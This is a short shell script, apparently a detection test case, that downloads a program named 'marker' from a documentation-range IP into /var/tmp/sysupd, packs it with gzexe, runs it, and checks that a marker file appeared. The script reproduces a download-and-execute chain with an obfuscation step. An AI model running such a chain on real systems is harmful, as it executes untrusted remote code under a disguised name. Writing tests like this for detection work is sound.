#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/marker -o /var/tmp/sysupd
chmod +x /var/tmp/sysupd
gzexe /var/tmp/sysupd >/dev/null
rm -f /var/tmp/sysupd~
/var/tmp/sysupd
test -e /tmp/reached
took_place
